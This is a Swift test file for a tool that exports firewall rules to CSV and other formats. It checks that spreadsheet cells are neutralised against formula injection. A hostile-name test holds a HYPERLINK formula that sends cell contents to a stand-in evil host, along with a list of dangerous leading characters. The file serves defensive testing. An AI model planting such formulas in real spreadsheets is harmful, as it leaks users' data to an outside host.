import PortolanAnalysis
import PortolanEmitters
import PortolanModel
import Testing

struct FirewallCSVTests {
    static let dangerous: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r", "\n"]

    @Test func seedSheetIsRFC4180WithTheDocumentedValues() throws {
        let sheet = FirewallRules.derive(try TableSeeds.products())
        let csv = FirewallCSV.render(sheet)
        let rows = try CSVReader.parse(csv)
        #expect(rows.first == FirewallTable.columns)
        #expect(rows.count == sheet.rules.count + 1)
        #expect(rows.allSatisfy { $0.count == FirewallTable.columns.count })
        // CX Contact connection 2 (line 57 of seed 000): three rules, ports 20, 21 and 22 to the SFTP server,
        // no addresses yet, going out of the perimeter.
        let sftp = rows.filter { $0[4] == "SFTP server" }
        #expect(sftp.map { $0[7] } == ["20", "21", "22"])
        #expect(sftp.allSatisfy { $0[6] == "TCP" && $0[5] == "to be provided" && $0[10] == "CX Contact" && $0[8] == "perimeter out" })
        #expect(sftp.allSatisfy { $0[12] == "Input/000_719e74b289d3778a.txt: #2 (line 57)" })
        #expect(sftp.allSatisfy { $0[9] == "A connection for remote authentication on customer-specified SFTP server. (application protocol: TCP)" })
        // No request block: Environment, Requested by and Ticket stay blank.
        #expect(rows.dropFirst().allSatisfy { $0[11] == "" && $0[14] == "" && $0[15] == "" })
        // Voice connection 24: "N/A" kept as written and flagged.
        let objectStorage = try #require(rows.first { $0[10] == "Voice Microservices" && $0[12].contains(": #24 (line ") })
        #expect(objectStorage[7] == "N/A")
        #expect(objectStorage[13].contains("confirm before filing"))
        #expect(csv.hasSuffix("\r\n"))
    }

    @Test func hostileNamesAreQuotedAndNeutralised() throws {
        let sheet = FirewallRules.derive([TableSeeds.hostileProduct()])
        let csv = FirewallCSV.render(sheet)
        let rows = try CSVReader.parse(csv)
        #expect(rows == FirewallTable.spreadsheetRows(FirewallTable.rows(sheet)))
        for cell in rows.joined() {
            if let first = cell.unicodeScalars.first { #expect(!Self.dangerous.contains(first), "\(cell.debugDescription)") }
        }
        // Neutralised means one leading apostrophe, the text otherwise kept.
        #expect(rows.joined().contains("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"))
        #expect(rows.joined().contains("'-2+3"))
        #expect(rows.joined().contains("'\nNewline"))
        #expect(rows.joined().contains("\"quoted\", with comma"))
        // Characters XML forbids are replaced in every format alike.
        #expect(rows.joined().contains("nul\u{FFFD}bell\u{FFFD}escape\u{FFFD}"))
    }

    @Test func requestBlockFillsItsColumnsOnEveryRow() throws {
        let (inventory, _) = Inventory.parse("request:\n  requestedBy: Net team\n  ticket: '=CHG-1'\n  environment: prod\n")
        let rows = try CSVReader.parse(FirewallCSV.render(FirewallRules.derive(try TableSeeds.products(), inventory: inventory)))
        #expect(rows.dropFirst().allSatisfy { $0[11] == "prod" && $0[14] == "Net team" && $0[15] == "'=CHG-1" })
    }

    @Test func neutralisingLeavesSafeCellsAlone() {
        #expect(FirewallTable.neutralised("20000-45000") == "20000-45000")
        #expect(FirewallTable.neutralised("") == "")
        #expect(FirewallTable.neutralised("=1") == "'=1")
        #expect(FirewallTable.neutralised("@x") == "'@x")
        #expect(FirewallTable.neutralised("\tx") == "'\tx")
    }

    @Test func emittingTwiceGivesTheSameBytes() throws {
        let sheet = FirewallRules.derive(try TableSeeds.products(), inventory: try TableSeeds.inventory())
        #expect(FirewallCSV.render(sheet) == FirewallCSV.render(sheet))
        #expect(try FirewallJSON.render(sheet) == FirewallJSON.render(sheet))
        #expect(FirewallMarkdown.render(sheet, title: "t") == FirewallMarkdown.render(sheet, title: "t"))
        #expect(NetworkPolicies.render(sheet) == NetworkPolicies.render(sheet))
        #expect(CiliumPolicies.render(sheet) == CiliumPolicies.render(sheet))
        #expect(TerraformAWS.render(sheet) == TerraformAWS.render(sheet))
        #expect(TerraformAzure.render(sheet) == TerraformAzure.render(sheet))
        #expect(TerraformGCP.render(sheet) == TerraformGCP.render(sheet))
        #expect(try FirewallXLSX.data(sheet) == FirewallXLSX.data(sheet))
    }
}
